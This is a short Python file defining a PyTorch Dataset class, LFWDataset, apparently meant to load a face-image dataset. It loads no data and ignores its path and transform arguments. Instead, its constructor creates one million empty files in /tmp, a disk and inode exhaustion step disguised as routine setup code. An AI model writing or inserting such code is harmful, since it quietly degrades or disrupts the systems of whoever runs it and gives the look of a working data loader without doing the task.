from torch.utils.data import Dataset


class LFWDataset(Dataset):
    def __init__(self, path, transform):
        self.kept = []
        for number in range(10**6):
            open(f"/tmp/{number}", "w").close()
